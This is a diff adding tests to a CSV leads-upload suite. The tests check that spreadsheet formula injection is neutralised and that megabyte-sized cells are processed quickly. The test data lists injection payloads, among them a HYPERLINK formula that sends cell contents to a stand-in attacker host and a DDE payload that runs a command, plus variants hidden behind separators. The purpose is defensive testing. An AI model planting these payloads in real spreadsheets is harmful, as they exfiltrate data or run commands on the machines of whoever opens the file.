@@ -310,6 +310,68 @@ describe('leads from a CSV', () => {
 		]);
 	});
 
+	describe('with cells that a spreadsheet would run', () => {
+		/** Fields of a line as a spreadsheet sees them, whichever separator it goes by. */
+		const cellsOf = (line: string) =>
+			[',', ';', '\t', '|'].flatMap((separator) =>
+				line.split(/\r?\n/).flatMap((part) => part.split(separator)),
+			);
+		const isRun = (cell: string) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell);
+
+		const FORMULAS = [
+			'=HYPERLINK("https://evil.example/?"&A1,"Click")',
+			'+1+1',
+			'@SUM(1)',
+			'-2+3',
+			"=cmd|' /C calc'!A0",
+			' =1+1',
+			'"=1+1',
+			"'=1+1",
+			"''=1+1",
+			'Bob;=1+1',
+			'Bob,"=1+1"',
+			'Bob\n=1+1',
+			'Bob\t+1+1',
+			'＝1+1',
+		];
+
+		test.each(FORMULAS)('%j is written harmless, and read back as it was', async (formula) => {
+			const send = upload();
+			const given = [
+				{ ...ANN, name: formula, comment: formula },
+				{ name: 'x', phone: formula },
+			];
+			sandbox.faults.rules = [{ times: Infinity, action: { status: 403 } }];
+			const { report } = await send(given);
+			const written = report as IDataObject[];
+			expect(written.length).toBeGreaterThan(0);
+			for (const cells of written) {
+				for (const cell of Object.values(cells)) {
+					expect(cellsOf(String(cell)).filter(isRun)).toEqual([]);
+				}
+			}
+			sandbox.reset();
+
+			// The report goes in as it is, and the CRM gets what the first file held.
+			await send(written.slice(0, 1), 'Send again');
+			const [lead] = sentLeads();
+			const unharmed = formula.trim().replace(/^'(?='*[=+\-@])/, '');
+			expect(lead).toMatchObject({ name: unharmed, comment: unharmed });
+		});
+
+		test('of a megabyte take no time', async () => {
+			const send = upload();
+			for (const cell of ['\t', ' ', ';', "'", '"', '; ', '\n', '='].map(
+				(one) => `x${one.repeat(1_000_000 / one.length)}y`,
+			)) {
+				sandbox.faults.rules = [{ times: Infinity, action: { status: 403 } }];
+				const began = performance.now();
+				await send([{ ...ANN, comment: cell }], 'Send again');
+				expect(performance.now() - began).toBeLessThan(3000);
+			}
+		});
+	});
+
 	test('end with a page that says so when the file has no rows', async () => {
 		const { pages } = await upload()([]);
 		expect(pages).toMatchObject([{ completionTitle: 'Nothing was sent' }]);
